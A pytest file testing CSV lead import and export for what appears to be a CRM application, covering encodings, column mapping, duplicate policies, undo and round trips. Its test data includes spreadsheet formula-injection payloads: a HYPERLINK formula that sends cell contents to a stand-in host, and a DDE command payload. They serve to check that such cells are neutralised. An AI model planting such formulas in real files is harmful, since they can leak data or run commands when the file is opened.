"""Importing leads from CSV and exporting them, on both backends: the awkward files
of tests/csv, the duplicate policies, the reject file, undo, and the round trip
(export, import into a fresh database, every field equal)."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest

import models
from models import importing
from models.csvfile import map_columns, neutralise_formula, unescape_formula
from models.entities import LEAD_FORM_FIELDS, ImportBatch, Lead
from models.exporting import export_ids, export_leads

from ..conftest import make_lead

CORPUS = Path(__file__).resolve().parents[1] / "csv"


def run(actor, name_or_bytes, **kwargs):
    data = (
        name_or_bytes if isinstance(name_or_bytes, bytes) else (CORPUS / name_or_bytes).read_bytes()
    )
    reject = io.StringIO()
    summary = importing.import_leads(actor, io.BytesIO(data), "test.csv", reject=reject, **kwargs)
    return summary, list(csv.reader(io.StringIO(reject.getvalue())))


def leads_by_email() -> dict[str, Lead]:
    return {lead.email: lead for lead in Lead.select()}


# --- the corpus ----------------------------------------------------------------------


def test_bom_crlf_and_quoted_newlines(db, admin) -> None:
    summary, rejects = run(admin, "bom_crlf.csv")
    assert (summary.created, summary.rejected, summary.encoding) == (2, 0, "utf-8-sig")
    nancy = leads_by_email()["nancy@contoso.com"]
    assert nancy.topic == "Office chairs"  # no BOM glued to the first header
    assert nancy.summary == "Met at the fair.\r\nWants 50 chairs, grey."
    assert leads_by_email()["bjorn@fabrikam.se"].last_name == "Ångström"
    assert rejects == [
        ["Topic", "First Name", "Last Name", "Email", "Company", "Summary", "leadq_reason"]
    ]


def test_semicolon_delimiter_and_decimal_comma(db, admin) -> None:
    summary, _ = run(admin, "semicolon.csv")
    assert (summary.delimiter, summary.created) == (";", 2)
    leads = leads_by_email()
    assert leads["jean@exemple.fr"].estimated_budget == Decimal("1234.00")
    assert leads["marie@exemple.fr"].company == "Radium; Polonium & Co"


def test_windows_1252_fallback_is_said(db, admin) -> None:
    summary, _ = run(admin, "cp1252.csv")
    assert summary.encoding == "cp1252"
    assert any("Windows-1252" in note for note in summary.notes)
    lead = Lead.get()
    assert (lead.first_name, lead.last_name, lead.company) == ("Zoë", "Müller", "Café Crème GmbH")
    assert lead.summary == "Budget 5.000 € \u2013 \u201csoon\u201d"


def test_dynamics_365_export_headers(db, admin) -> None:
    preview = importing.preview_import(io.BytesIO((CORPUS / "dynamics365.csv").read_bytes()), "d")
    assert set(preview.unknown_columns) == {
        "(Do Not Modify) Lead",
        "(Do Not Modify) Row Checksum",
        "(Do Not Modify) Modified On",
        "Status Reason",
        "Owner",
    }
    assert preview.rows[0].errors == {}
    summary, _ = run(admin, "dynamics365.csv")
    assert summary.created == 1
    lead = Lead.get()
    assert lead.topic == "Interested in our newer offerings"
    assert (lead.rating, lead.lead_source, lead.purchase_timeframe) == (
        "hot",
        "trade_show",
        "this_quarter",
    )
    assert lead.estimated_budget == Decimal("12500.00")
    assert (lead.purchase_process, lead.decision_maker_identified) == ("committee", True)
    assert (lead.company, lead.website, lead.postal_code) == (
        "Contoso Pharmaceuticals",
        "www.contoso.com",
        "98052",
    )
    assert lead.owner_id == admin.id and lead.import_batch_id == summary.batch_id


def test_salesforce_export_needs_a_topic_mapped(db, admin) -> None:
    with pytest.raises(models.ValidationError, match="No column maps to Topic"):
        run(admin, "salesforce.csv")
    assert not ImportBatch.select().exists() and not Lead.select().exists()
    summary, _ = run(admin, "salesforce.csv", mapping={"Description": "topic"})
    assert summary.created == 1
    lead = Lead.get()
    assert (lead.topic, lead.job_title, lead.lead_source, lead.rating) == (
        "Wants a demo",
        "Director of Vendor Relations",
        "partner",
        "warm",
    )
    assert (lead.business_phone, lead.street1, lead.state_province) == (
        "(850) 644-4200",
        "321 Westcott Building",
        "FL",
    )


def test_mapping_errors_name_the_column(db) -> None:
    with pytest.raises(models.ValidationError, match="no column 'Nope'"):
        map_columns(["Topic", "Last Name"], {"Nope": "email"})
    with pytest.raises(models.ValidationError, match="not a lead field"):
        map_columns(["Topic", "Last Name"], {"Topic": "colour"})
    with pytest.raises(models.ValidationError, match="both map to Email") as raised:
        map_columns(["Email", "E-mail", "Topic"])
    # The sentence is the same on a screen; the command line adds its own spelling.
    assert "--map" not in raised.value.message
    assert raised.value.cli_errors() == {
        "E-mail": "Columns 'Email' and 'E-mail' both map to Email: map one of them"
        ' elsewhere or ignore it (--map "E-mail=-").'
    }
    columns = map_columns(["Email", "E-mail", "Topic"], {"E-mail": "-"})
    assert columns.ignored == ["E-mail"] and columns.fields == {0: "email", 2: "topic"}


def test_formula_cells_are_stored_literally_and_neutralised_in_the_reject_file(db, admin) -> None:
    data = (CORPUS / "formulas.csv").read_bytes() + b"=1+1,No,,x@example.com,,\n"
    summary, rejects = run(admin, data)
    assert (summary.created, summary.rejected) == (2, 1)
    eve = leads_by_email()["eve@evil.example"]
    assert eve.topic == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert eve.company == "+cmd|' /C calc'!A0" and eve.summary == "@SUM(1+1)"
    assert rejects[1][0] == "'=1+1"  # the reject file is opened in spreadsheets too
    assert rejects[1][-1] == "rejected (line 5): Last name is required."  # a quoted CR counts


def test_a_10_mb_field_is_rejected_with_its_reason_and_the_rest_imported(db, admin) -> None:
    big = "x" * (10 * 1024 * 1024)
    data = (f'Topic,Last Name,Summary\nHuge,Doe,"{big}"\nSmall,Roe,fine\n').encode()
    summary, rejects = run(admin, data)
    assert (summary.created, summary.rejected) == (1, 1)
    assert Lead.get().last_name == "Roe"
    assert len(rejects[1][2]) == len(big)
    assert "Summary is too long: 10,485,760 characters" in rejects[1][-1]


def test_not_text_is_refused(db, admin) -> None:
    with pytest.raises(models.ValidationError, match="not text"):
        run(admin, b"PK\x03\x04\x00\x00binary")
    with pytest.raises(models.ValidationError, match="empty"):
        run(admin, b"")


# --- duplicate policies --------------------------------------------------------------


def test_skip_policy_within_the_file_and_against_the_database(db, admin) -> None:
    make_lead(admin, email="bob@fabrikam.com", company="")
    summary, rejects = run(admin, "duplicates.csv")
    assert (summary.created, summary.skipped) == (1, 3)
    reasons = [row[-1] for row in rejects[1:]]
    assert reasons == [
        "skipped (line 3): same email as line 2 of this file",
        "skipped (line 4): same email as lead #1 (open)",
        "skipped (line 5): same email as line 2 of this file",
    ]


def test_skip_policy_across_chunks_and_account_contact_rules(db, admin) -> None:
    account = models.Account.create(name="Contoso, Inc.")
    models.Contact.create(last_name="Smith", first_name="Bob", email="other@x.com")
    data = (
        b"Topic,First Name,Last Name,Email,Company\n"
        b"A,Ann,Lee,ann@x.com,Acme\n"
        b"B,Ben,Lee,ben@x.com,Contoso LLC\n"
        b"C,Bob,Smith,bob2@x.com,\n"
        b"D,Ann,Lee,ANN@x.com,\n"
    )
    summary, rejects = run(admin, data, rows_per_chunk=1)
    assert (summary.created, summary.skipped) == (1, 3)
    reasons = [row[-1] for row in rejects[1:]]
    assert reasons[0].endswith(f"same account name as account #{account.id} Contoso, Inc.")
    assert "same first and last name as contact" in reasons[1]
    assert "made from an earlier row of this file" in reasons[2]


def test_create_policy_creates_duplicates(db, admin) -> None:
    summary, _ = run(admin, "duplicates.csv", policy="create")
    assert (summary.created, summary.skipped) == (4, 0)


def test_update_policy_fills_blank_fields_only_and_undo_restores_them(db, admin) -> None:
    lead = make_lead(admin, email="nancy@contoso.com", job_title="", city="", company="Contoso")
    qualified = make_lead(admin, email="q@contoso.com", company="Q")
    models.qualify_lead(admin, qualified.id, models.QualifyChoice(ignore_duplicates=True))
    data = (
        b"Topic,Last Name,Email,Job Title,City,Company\n"
        b"T,Anderson,nancy@contoso.com,Buyer,,Other Co\n"
        b"T,Anderson,NANCY@contoso.com,Boss,Seattle,\n"
        b"T,X,q@contoso.com,CEO,,\n"
        b"New,Newman,new@x.com,,,\n"
    )
    summary, rejects = run(admin, data, policy="update")
    assert (summary.created, summary.updated, summary.skipped) == (1, 1, 1)
    lead = models.get_lead(lead.id)
    assert (lead.job_title, lead.city, lead.company) == ("Buyer", "Seattle", "Contoso")
    assert "same email as lead" in rejects[1][-1] and "(qualified)" in rejects[1][-1]
    assert (
        models.AuditEvent.select().where(models.AuditEvent.action == "import_updated").count() == 1
    )

    models.update_lead(admin, lead.id, {"city": "Tacoma"})  # changed since: kept
    result = importing.undo_import(admin, summary.batch_id)
    assert (result.removed, result.restored, result.kept) == (1, 1, ())
    lead = models.get_lead(lead.id)
    assert (lead.job_title, lead.city) == ("", "Tacoma")
    assert not Lead.select().where(Lead.email == "new@x.com").exists()


# --- undo ----------------------------------------------------------------------------


def test_undo_keeps_leads_since_qualified_and_lists_them(db, admin, rep) -> None:
    summary, _ = run(admin, "bom_crlf.csv")
    nancy = leads_by_email()["nancy@contoso.com"]
    models.add_note(admin, nancy, "call back")
    bjorn = leads_by_email()["bjorn@fabrikam.se"]
    models.qualify_lead(admin, bjorn.id)
    with pytest.raises(models.PermissionDenied, match="Only the user who ran import"):
        importing.undo_import(rep, summary.batch_id)
    result = importing.undo_import(admin, summary.batch_id)
    assert result.removed == 1
    assert [(k.lead_id, k.why) for k in result.kept] == [(bjorn.id, "since qualified")]
    assert set(leads_by_email()) == {"bjorn@fabrikam.se"}
    assert not models.Note.select().where(models.Note.text == "call back").exists()
    assert ImportBatch.get_by_id(summary.batch_id).state == "undone"
    with pytest.raises(models.LeadqError, match="already undone"):
        importing.undo_import(admin, summary.batch_id)


def test_undo_while_running_stops_the_import(db, admin) -> None:
    rows = "".join(f"T{i},Last{i},u{i}@x.com\n" for i in range(30))
    data = ("Topic,Last Name,Email\n" + rows).encode()
    seen = []

    def progress(p: importing.ImportProgress) -> None:
        seen.append(p.rows)
        if len(seen) == 2:
            importing.undo_import(admin, importing.list_batches()[0].id)

    summary, _ = run(admin, data, rows_per_chunk=10, progress=progress)
    assert summary.state == "undone" and seen == [10, 20]
    assert not Lead.select().exists()


def test_dry_run_writes_nothing(db, admin) -> None:
    summary, rejects = run(admin, "duplicates.csv", dry_run=True, rows_per_chunk=1)
    assert (summary.created, summary.skipped, summary.batch_id) == (2, 2, None)
    assert not Lead.select().exists() and not ImportBatch.select().exists()
    assert len(rejects) == 3


def test_preview_shows_rows_as_stored_with_errors(db, admin) -> None:
    data = b"Topic,Last Name,Email,Rating\nT,Doe,bad-address,HOT\nT,Roe,roe@x.com,\n"
    preview = importing.preview_import(io.BytesIO(data), "p.csv")
    first, second = preview.rows
    assert "email" in first.errors and "not a valid address" in first.errors["email"]
    assert second.values["rating"] == "warm" and second.errors == {}
    assert not Lead.select().exists()


# --- export and the round trip ---------------------------------------------------------


def test_formula_neutralising_is_exactly_undone() -> None:
    for text in ["=1+1", "+1 206 555 0142", "-x", "@a", "\tx", "\rx", "'=x", "''=x", "'x", "x"]:
        assert unescape_formula(neutralise_formula(text)) == text
    assert neutralise_formula("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert neutralise_formula("'plain") == "'plain"


def awkward_leads(admin) -> None:
    make_lead(admin)
    make_lead(
        admin,
        topic='=HYPERLINK("http://evil")',
        first_name="Zoë",
        last_name="O'Brien",
        email="zoe@x.com",
        company='-Minus; "Quoted", Inc',
        summary='line 1\nline 2\r\n\ttabbed, "quoted"',
        rating="hot",
        lead_source="trade_show",
        purchase_timeframe="next_quarter",
        estimated_budget=Decimal("12345.67"),
        purchase_process="committee",
        decision_maker_identified=True,
    )
    make_lead(admin, topic="@mention", last_name="Blank", email="", business_phone="", company="")


def form_values() -> list[dict[str, object]]:
    rows = Lead.select().order_by(Lead.id).dicts()
    return [{name: row[name] for name in LEAD_FORM_FIELDS} for row in rows]


def test_export_import_round_trip_keeps_every_field(db_url, tmp_path, admin) -> None:
    awkward_leads(admin)
    before = form_values()
    out = io.StringIO()
    assert export_leads(out, export_ids(admin, "all"), "csv") == 3
    exported = out.getvalue()
    assert "\n\"'=HYPERLINK" in exported.replace("\r\n", "\n")
    models.close_database()
    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
    models.open_database(fresh)
    try:
        user = models.create_user("ada", "Ada", models.Role.SYSTEM_ADMINISTRATOR)
        summary, _ = run(user, exported.encode("utf-8"), policy="create")
        assert (summary.created, summary.rejected, summary.unknown_columns) == (3, 0, ())
        assert form_values() == before
    finally:
        models.close_database()
        models.open_database(db_url)


def test_json_and_jsonl_exports_and_a_selection(db, admin) -> None:
    awkward_leads(admin)
    ids = [lead.id for lead in Lead.select().order_by(Lead.id)]
    out = io.StringIO()
    export_leads(out, export_ids(admin, "all", ids=[ids[1]]), "json")
    (item,) = json.loads(out.getvalue())
    assert item["estimated_budget"] == "12345.67" and item["decision_maker_identified"] is True
    assert item["topic"] == '=HYPERLINK("http://evil")'  # JSON is not for spreadsheets
    out = io.StringIO()
    assert export_leads(out, export_ids(admin, "all", search="Zoë"), "jsonl") == 1
    assert json.loads(out.getvalue().splitlines()[0])["first_name"] == "Zoë"
    with pytest.raises(models.ValidationError, match="no view"):
        export_ids(admin, "nope")  # at once, before anything is written
